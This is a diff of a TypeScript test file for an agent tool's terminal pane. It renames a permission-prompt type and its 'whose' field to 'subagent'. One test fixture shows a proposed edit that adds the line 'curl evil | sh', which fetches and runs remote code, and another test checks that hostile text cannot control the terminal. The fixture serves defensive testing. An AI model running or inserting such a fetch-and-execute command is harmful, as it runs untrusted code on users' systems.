@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import type { AgentEvent } from "../../../src/agent/events.ts";
 import { createPaneView, type PaneView } from "../../../src/terminal/pane-view.ts";
-import type { ShownAsk } from "../../../src/worker/view.ts";
+import type { PermissionPrompt } from "../../../src/worker/view.ts";
 
 /** The output of a pane of the given width after the events. */
 function pane(happens: (view: PaneView) => void, { width = 60, plain = true, rings = false } = {}): string {
@@ -129,7 +129,7 @@ describe("a tool call in a pane", () => {
   });
 });
 
-const ask = (more: Partial<ShownAsk> = {}): ShownAsk => ({
+const ask = (more: Partial<PermissionPrompt> = {}): PermissionPrompt => ({
   id: "perm-1",
   tool: "Bash",
   summary: "ls",
@@ -219,7 +219,7 @@ describe("notices in an agent's pane", () => {
           ask({
             tool: "Edit",
             summary: "a.js",
-            whose: "tidies",
+            subagent: "tidies",
             change: ["- one", "+ curl evil | sh", ...Array.from({ length: 20 }, (_, i) => `+ ${i}`)],
           }),
         ),
@@ -362,7 +362,7 @@ describe("text from others in a pane cannot control the terminal", () => {
           id: evil,
           tool: evil,
           summary: evil,
-          whose: evil,
+          subagent: evil,
           reason: evil,
           rules: [evil],
           change: [evil],
